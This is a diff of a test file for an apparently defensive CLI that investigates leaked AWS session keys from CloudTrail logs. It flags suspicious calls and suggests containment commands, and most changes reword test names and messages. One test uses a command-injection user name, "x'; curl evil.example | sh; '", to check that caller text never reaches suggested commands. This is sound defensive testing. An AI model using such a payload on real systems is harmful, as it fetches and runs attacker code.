@@ -32,7 +32,7 @@ function lines(stdout: string) {
 }
 
 describe('firstsight investigate', () => {
-  test('tells of the sample session what it did, what to look at first, and how to contain it', async () => {
+  test('shows for the sample session its calls, what to review first, and how to contain it', async () => {
     const { stdout, stderr, status } = await investigate('--key', sampleKey, ...samples);
     expect(status).toBe(0);
     expect(stdout).toMatch(
@@ -40,24 +40,22 @@ describe('firstsight investigate', () => {
     );
     expect(stdout).toContain('43 calls: 41 succeeded, 1 denied, 1 failed; 19 actions');
     expect(stdout).toContain('expired: the session ended at 2026-03-10T10:47:03Z');
-    expect(stdout).toMatch(
-      /! logging or detection switched off +cloudtrail StopLogging on .*, denied \(AccessDenied\)/,
-    );
+    expect(stdout).toMatch(/! logging or detection turned off +cloudtrail StopLogging on .*, denied \(AccessDenied\)/);
     expect(stdout).toMatch(
       /! secrets read +secretsmanager GetSecretValue on secret:orders-db-AbCdEf and 1 more, 2 calls/,
     );
     expect(stdout).toMatch(/23:21:12 - 23:30:41 +24 {2}s3 GetObject {2}! data read in bulk/);
     expect(stdout).toContain('on arn:aws:secretsmanager:us-east-1:111122223333:secret:payments-api-GhIjKl');
-    expect(stdout).toContain('27 by key, 16 in the console');
+    expect(stdout).toContain('27 with the key, 16 in the console');
     expect(stdout).toContain('regions         us-east-1 (41), eu-west-1 (2)');
-    expect(stdout).toContain('look at it too, with --key AKIABACKUPADMEXAMPLE');
+    expect(stdout).toContain('investigate it with --key AKIABACKUPADMEXAMPLE');
     expect(stdout).toContain('aws iam put-user-policy --user-name ci-deploy --policy-name FirstsightDenyAll');
     expect(stdout).toContain('--user-name backup-admin --access-key-id AKIABACKUPADMEXAMPLE --status Inactive');
     expect(stdout).not.toContain('StartBuild');
     expect(stderr).toBe('log files: 34 read, 1 skipped (digest-file), 0 failed; 207 kB inflated\n');
   });
 
-  test('as ndjson gives a session line, one for each action and made key, and an end, which agree', async () => {
+  test('as ndjson writes a line for the session, each action, each created key and the end, whose counts agree', async () => {
     const all = lines((await investigate('--key', sampleKey, '--around', '--format', 'ndjson', ...samples)).stdout);
     const groups = all.filter(({ kind, of }) => kind === 'group' && of === 'session');
     const sum = (field: string) => groups.reduce((total, group) => total + group[field], 0);
@@ -78,7 +76,7 @@ describe('firstsight investigate', () => {
     expect(all.at(-1)).toMatchObject({ kind: 'end', found: true, logFiles: 34, regions: ['eu-west-1', 'us-east-1'] });
   });
 
-  test('takes the alert that detect gives, from a file or from stdin', async () => {
+  test('reads the alert that detect writes, from a file or from stdin', async () => {
     const alerts = (await firstsight(['detect', '--format', 'ndjson', ...samples])).stdout.split('\n');
     const alert = alerts.find((line) => line.includes(sampleKey)) ?? '';
     const file = join(folder, 'alert.json');
@@ -90,35 +88,35 @@ describe('firstsight investigate', () => {
     );
   });
 
-  test('follows a key that the session made, and tells how to deactivate it', async () => {
+  test('investigates a key that the session created, and shows how to deactivate it', async () => {
     const { stdout } = await investigate('--key', 'AKIABACKUPADMEXAMPLE', ...samples);
     expect(stdout).toContain('key AKIABACKUPADMEXAMPLE, user backup-admin in 111122223333\n2 calls: 2 succeeded');
     expect(stdout).toContain('aws iam update-access-key --user-name backup-admin --access-key-id AKIABACKUPADMEXAMPLE');
   });
 
-  test('says in how many log files of which time it found nothing, and what to check, and ends with 0', async () => {
+  test('without calls reports the log files and the time that it searched and what to check, and exits with status 0', async () => {
     const { stdout, status } = await investigate('--key', 'ASIANOBODYHASEXAMPLE', samples[1] ?? '');
     expect(status).toBe(0);
-    expect(stdout).toContain('no call of this key in 8 log files from 2026-03-08T22:35:00Z to 2026-03-09T00:20:00Z');
+    expect(stdout).toContain('no calls with this key in 8 log files from 2026-03-08T22:35:00Z to 2026-03-09T00:20:00Z');
     expect(stdout).toMatch(/WHAT TO CHECK\n {2}Days: .*\n(.*\n)? {2}Regions: .*\n(.*\n)? {2}Data events: /);
     expect(stdout).toContain('aws sts get-access-key-info --access-key-id ASIANOBODYHASEXAMPLE');
   });
 
-  test('of days before the session finds nothing either', async () => {
+  test('with days before the session finds no calls', async () => {
     const { stdout } = await investigate('--key', sampleKey, '--from', '2026-03-01', '--to', '2026-03-07', ...samples);
-    expect(stdout).toContain('no call of this key in 34 log files');
+    expect(stdout).toContain('no calls with this key in 34 log files');
   });
 
-  test('goes on after a log file that it cannot read, says so in the report too, and ends with 1', async () => {
+  test('continues after a log file that it cannot read, says so in the report, and exits with status 1', async () => {
     const broken = join(folder, 'broken.json');
     writeFileSync(broken, '{"Records":[');
     const { stdout, stderr, status } = await investigate('--key', sampleKey, broken, ...samples);
     expect(status).toBe(1);
-    expect(stdout).toContain('1 log file could not be read (named on stderr), so there may be more.');
+    expect(stdout).toContain('1 log file could not be read (see stderr), so calls may be missing.');
     expect(stderr.split('\n').filter((line) => line.startsWith(`failed: ${broken}: `))).toHaveLength(1);
   });
 
-  test('writes the page that it was asked for', async () => {
+  test('with --html writes the page', async () => {
     const page = join(folder, 'session.html');
     const { stderr, status } = await investigate('--key', sampleKey, '--html', page, ...samples);
     expect(status).toBe(0);
@@ -127,22 +125,22 @@ describe('firstsight investigate', () => {
   });
 
   test.each([
-    [['samples'], 'Say which session: --key ASIA…, --alert FILE or --user ARN.'],
+    [['samples'], 'Specify a session with --key ASIA…, --alert FILE or --user ARN.'],
     [['--key', sampleKey], 'missing required argument'],
-    [['--key', 'secret', 'samples'], '"secret" is no access key id'],
-    [['--user', 'alice', 'samples'], '"alice" is neither the ARN of a federated user'],
-    [['--alert', 'no-such-file.json', 'samples'], 'no-such-file.json cannot be read'],
+    [['--key', 'secret', 'samples'], '"secret" is not an access key ID'],
+    [['--user', 'alice', 'samples'], '"alice" is not the ARN of a federated user'],
+    [['--alert', 'no-such-file.json', 'samples'], 'Cannot read no-such-file.json'],
     [['--key', sampleKey, '--user', 'x', 'samples'], 'cannot be used with'],
     [['--key', sampleKey, '--last', 'soon', 'samples'], 'such as 12h, 10d or 2w'],
     [['--key', sampleKey, '--html', 'no/such/folder/report.html', 'samples'], 'no/such/folder'],
-  ])('%j is wrong usage: 2, with a sentence and no stack trace', async (args, sentence) => {
+  ])('exits with status 2 and an error without a stack trace for the arguments %j', async (args, sentence) => {
     const { stdout, stderr, status } = await investigate(...args);
     expect({ stdout, status }).toEqual({ stdout: '', status: 2 });
     expect(stderr).toContain(sentence);
     expect(stderr).not.toMatch(/^\s+at /m);
   });
 
-  test('--help shows two examples, and the first of them works', async () => {
+  test('shows two examples with --help, of which the first works', async () => {
     const { stdout, status } = await investigate('--help');
     expect(status).toBe(0);
     const examples = [...stdout.matchAll(/^ {2}firstsight investigate (.*)$/gm)].map(([, args = '']) => args);
@@ -153,10 +151,10 @@ describe('firstsight investigate', () => {
 });
 
 const realRecord = resolve(root, '../shared/data/records/stratus-red-team-success.json');
-if (!existsSync(realRecord)) console.warn(`no real record is investigated: ${realRecord} is absent`);
+if (!existsSync(realRecord)) console.warn(`The test of a real record is skipped: ${realRecord} does not exist.`);
 
 (existsSync(realRecord) ? test : test.skip)(
-  'a real record of an issue tells the session, its end, and that nobody used it',
+  'an investigation of a real issuing record shows the session, its end, and that it made no calls',
   async () => {
     const { stdout, status } = await investigate('--key', 'ASIASTJKC5GCM7ZE6LUP', '--format', 'ndjson', realRecord);
     expect(status).toBe(0);
@@ -167,7 +165,7 @@ if (!existsSync(realRecord)) console.warn(`no real record is investigated: ${rea
   },
 );
 
-/** Everything that the holder of a session, or whoever names its things, can write into a log file. */
+/** Hostile texts in every field of a log file that a caller can choose. */
 const hostileRecords = [
   issue(),
   ...hostileTexts.flatMap((hostile, i) => [
@@ -186,15 +184,15 @@ const hostileRecords = [
   ]),
 ];
 
-describe('texts that callers chose', () => {
-  test.each(['text', 'ndjson'])('steer no terminal and tell no secret: %s', async (format) => {
+describe('texts that callers choose', () => {
+  test.each(['text', 'ndjson'])('write no control characters and no secrets to the terminal: %s', async (format) => {
     const { stdout } = await investigate('--key', issuedKey, '--around', '--format', format, write(hostileRecords));
     expect(stdout.length).toBeGreaterThan(1_000);
     expect(stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200e\u200f\u2028-\u202e\u2066-\u2069]/);
     expect(stdout).not.toContain('EXAMPLE-SESSION-TOKEN');
   });
 
-  test('hold nothing that cannot be seen when a program takes them out of ndjson', async () => {
+  test('contain no invisible characters when a program reads them from ndjson', async () => {
     const { stdout } = await investigate('--key', issuedKey, '--around', '--format', 'ndjson', write(hostileRecords));
     const texts: string[] = [];
     for (const line of stdout.trimEnd().split('\n')) {
@@ -207,7 +205,7 @@ describe('texts that callers chose', () => {
     expect(texts.filter((shown) => /[\p{Cc}\p{Cf}\p{Cs}]/u.test(shown))).toEqual([]);
   });
 
-  test('are put into no command', async () => {
+  test('are not part of any command', async () => {
     const name = "x'; curl evil.example | sh; '";
     const base = { ...own(`arn:aws:iam::111122223333:user/${name}`), userName: name };
     const made = { accessKey: { accessKeyId: 'AKIABACKUPADMEXAMPLE', userName: name } };
@@ -225,7 +223,7 @@ describe('texts that callers chose', () => {
 });
 
 describe('firstsight investigate over s3://', () => {
-  test('reads of an alert only the days of the session, and shows what it has when Ctrl-C stops it', async () => {
+  test('with --alert reads only the days of the session, and shows the calls found so far when you press Ctrl-C', async () => {
     const asked: string[] = [];
     const body = gzipSync(JSON.stringify({ Records: [issue(), byKey(1)] }));
     const keys = Array.from({ length: 40 }, (_, i) => `${logFileKey}_${i}.json.gz`);
@@ -265,7 +263,7 @@ describe('firstsight investigate over s3://', () => {
     expect(all[0]).toMatchObject({ kind: 'session', calls: 1 });
     expect(all.at(-1).logFiles + all.at(-1).logFilesLeft).toBe(keys.length);
     expect(all.at(-1).logFilesLeft).toBeGreaterThan(0);
-    expect(stderr).toContain('so there may be more than this; run the same command again');
+    expect(stderr).toContain('so calls may be missing from this report; run the same command again');
   });
 });
 
